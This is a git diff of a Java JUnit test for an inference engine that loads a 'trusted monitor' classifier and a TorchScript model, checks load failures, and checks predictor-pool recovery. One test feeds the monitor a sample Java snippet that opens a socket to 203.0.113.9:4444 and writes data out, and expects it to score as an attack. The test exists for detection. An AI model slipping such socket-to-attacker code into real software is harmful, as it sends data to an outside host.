@@ -4,41 +4,60 @@ import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.assertj.core.data.Offset.offset;
 
+import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
 import java.util.Map;
-import org.alignlab.inference.classify.ClassifierLoader;
-import org.alignlab.inference.classify.TextClassifier;
+import java.util.concurrent.ExecutionException;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.Future;
+import java.util.concurrent.TimeUnit;
+import org.alignlab.inference.engine.LoadedModel;
 import org.alignlab.inference.engine.ModelLoadException;
 import org.alignlab.inference.engine.ModelMetadata;
 import org.alignlab.inference.engine.NetworkSpec;
+import org.alignlab.inference.engine.Tensor;
+import org.alignlab.inference.engine.TensorSpec;
 import org.alignlab.inference.features.FeatureSpec;
+import org.alignlab.inference.serving.BatchSettings;
+import org.alignlab.inference.serving.ModelLoader;
+import org.alignlab.inference.serving.RunnerFactory;
+import org.alignlab.inference.serving.ServedModel;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
-/** Real DJL PyTorch on the shipped trusted monitor, as the service loads it. */
+/** Real DJL PyTorch on the shipped trusted monitor and a TorchScript model, as the service loads them. */
 class DjlModelEngineTest {
 
     /** Surefire runs in the module directory, where the shipped model lives. */
     static final Path SHIPPED = Path.of("models/trusted-monitor");
+    /** A TorchScript file written by PyTorch (src/test/resources/torchscript/make_affine.py): y = x W + b. */
+    static final Path AFFINE = Path.of("src/test/resources/torchscript/affine");
 
-    private final DjlModelEngine engine = new DjlModelEngine(2, Duration.ofSeconds(5));
+    private final DjlModelEngine engine = new DjlModelEngine(2, Duration.ofSeconds(5), "auto");
 
     @TempDir
     Path dir;
 
     @Test
     void theShippedModelLoadsAndScoresCodeThatOpensASocketAboveHonestCode() {
-        ModelMetadata metadata = ClassifierLoader.textClassifierMetadata(SHIPPED).orElseThrow();
-        try (TextClassifier classifier = new ClassifierLoader(engine).load(SHIPPED, metadata)) {
+        ModelMetadata metadata = ModelLoader.servedMetadata(SHIPPED).orElseThrow();
+        ModelLoader loader = new ModelLoader(engine, new RunnerFactory(BatchSettings.unbatched(2),
+                new SimpleMeterRegistry()));
+        try (ServedModel served = loader.load(SHIPPED, metadata)) {
+            var classifier = served.textClassifier().orElseThrow();
             Map<String, Double> honest = classifier.classify(script("double s = 0; for (int i = 1; i < 10; i++) "
                     + "s += 1.0 / i; System.out.println(\"harmonic \" + s);"));
             Map<String, Double> socket = classifier.classify(script("try (var s = new java.net.Socket(\"203.0.113.9\", "
                     + "4444)) { s.getOutputStream().write(\"done\".getBytes()); }"));
 
-            assertThat(classifier.version()).isEqualTo(metadata.version());
+            assertThat(served.version()).isEqualTo(metadata.version());
+            assertThat(engine.device()).isEqualTo("cpu()");
             assertThat(honest.keySet()).containsExactly("benign", "attack");
             assertThat(honest.get("benign") + honest.get("attack")).isCloseTo(1.0, offset(1e-5));
             assertThat(socket.get("attack")).isGreaterThan(honest.get("attack"));
@@ -48,20 +67,20 @@ class DjlModelEngineTest {
     @Test
     void weightsThatDoNotFitTheDeclaredFeaturesFailToLoad() throws IOException {
         Path copy = copyOfShipped();
-        ModelMetadata shipped = ClassifierLoader.textClassifierMetadata(copy).orElseThrow();
-        ModelMetadata wrongDimension = new ModelMetadata(shipped.name(), shipped.task(), shipped.engine(),
+        ModelMetadata shipped = ModelLoader.servedMetadata(copy).orElseThrow();
+        ModelMetadata wrongDimension = ModelMetadata.textClassifier(shipped.name(), shipped.engine(),
                 shipped.labels(), shipped.weights(), shipped.version(),
                 new FeatureSpec(FeatureSpec.HASHED_NGRAMS_V1, 1024, 2, 3, 5), shipped.network());
 
         assertThatThrownBy(() -> engine.load(copy, wrongDimension)).isInstanceOf(ModelLoadException.class)
-                .hasMessageContaining("do not fit 1024 features");
+                .hasMessageContaining("do not fit the declared inputs [features float32[n, 1024]]");
     }
 
     @Test
     void missingWeightsOrAnotherEngineFailToLoad() throws IOException {
         Path copy = copyOfShipped();
-        ModelMetadata shipped = ClassifierLoader.textClassifierMetadata(copy).orElseThrow();
-        ModelMetadata tensorFlow = new ModelMetadata(shipped.name(), shipped.task(), "TensorFlow", shipped.labels(),
+        ModelMetadata shipped = ModelLoader.servedMetadata(copy).orElseThrow();
+        ModelMetadata tensorFlow = ModelMetadata.textClassifier(shipped.name(), "TensorFlow", shipped.labels(),
                 shipped.weights(), shipped.version(), shipped.features(), shipped.network());
         Files.delete(copy.resolve(shipped.weights()));
 
@@ -70,6 +89,74 @@ class DjlModelEngineTest {
         assertThatThrownBy(() -> engine.load(copy, shipped)).isInstanceOf(ModelLoadException.class)
                 .hasMessageContaining(shipped.weights());
         assertThatThrownBy(() -> new NetworkSpec("transformer", 16)).isInstanceOf(IllegalArgumentException.class);
+    }
+
+    @Test
+    void aTorchScriptFileLoadsAndComputesWhatPyTorchComputedInBatches() {
+        ModelMetadata metadata = ModelLoader.servedMetadata(AFFINE).orElseThrow();
+        try (LoadedModel model = engine.load(AFFINE, metadata)) {
+            List<Tensor> outputs = model.forward(List.of(Tensor.float32("x", new long[] {2, 4},
+                    new float[] {1, 1, 1, 1, 0, 0, 0, 0})));
+
+            assertThat(outputs).singleElement().satisfies(y -> {
+                assertThat(y.name()).isEqualTo("y");
+                assertThat(y.shape()).containsExactly(2, 3);
+                assertThat((float[]) y.data()).containsExactly(2.5f, 3.5f, 1.0f, 0.0f, 1.0f, -1.0f);
+            });
+        }
+    }
+
+    @Test
+    void aTorchScriptFileThatDoesNotFitItsDeclaredSignatureFailsToLoad() {
+        ModelMetadata declared = ModelLoader.servedMetadata(AFFINE).orElseThrow();
+        ModelMetadata wrongInput = new ModelMetadata(declared.name(), declared.task(), declared.engine(), null,
+                declared.weights(), null, null, null,
+                List.of(new TensorSpec("x", declared.inputs().get(0).dtype(), new long[] {-1, 5})), declared.outputs());
+        ModelMetadata wrongOutput = new ModelMetadata(declared.name(), declared.task(), declared.engine(), null,
+                declared.weights(), null, null, null, declared.inputs(),
+                List.of(new TensorSpec("y", declared.outputs().get(0).dtype(), new long[] {-1, 2})));
+
+        assertThatThrownBy(() -> engine.load(AFFINE, wrongInput)).isInstanceOf(ModelLoadException.class)
+                .hasMessageContaining("do not fit the declared inputs");
+        assertThatThrownBy(() -> engine.load(AFFINE, wrongOutput)).isInstanceOf(ModelLoadException.class)
+                .hasMessageContaining("metadata declares [n, 2]");
+    }
+
+    /**
+     * Forward passes that fail inside PyTorch (a feature vector of the wrong width, as no request can send it) next
+     * to ones that succeed: afterwards every predictor made is idle again, and the model still answers.
+     */
+    @Test
+    void everyPredictorIsBackInThePoolAfterFailedForwardPasses() throws Exception {
+        ModelMetadata metadata = ModelLoader.servedMetadata(SHIPPED).orElseThrow();
+        int width = metadata.features().dimension();
+        DjlLoadedModel model = (DjlLoadedModel) engine.load(SHIPPED, metadata);
+        ExecutorService callers = Executors.newFixedThreadPool(8);
+        try {
+            List<Future<List<Tensor>>> calls = new ArrayList<>();
+            for (int i = 0; i < 40; i++) {
+                int columns = i % 2 == 0 ? width : width - 1;
+                calls.add(callers.submit(() -> model.forward(List.of(
+                        Tensor.float32(ModelMetadata.FEATURES, new long[] {1, columns}, new float[columns])))));
+            }
+            int failed = 0;
+            for (Future<List<Tensor>> call : calls) {
+                try {
+                    call.get(30, TimeUnit.SECONDS);
+                } catch (ExecutionException e) {
+                    failed++;
+                }
+            }
+
+            assertThat(failed).isEqualTo(20);
+            assertThat(model.predictors().created()).isBetween(1, 2);
+            assertThat(model.predictors().idle()).isEqualTo(model.predictors().created());
+            assertThat(model.forward(List.of(Tensor.float32(ModelMetadata.FEATURES, new long[] {1, width},
+                    new float[width])))).hasSize(1);
+        } finally {
+            callers.shutdownNow();
+            model.close();
+        }
     }
 
     private Path copyOfShipped() throws IOException {
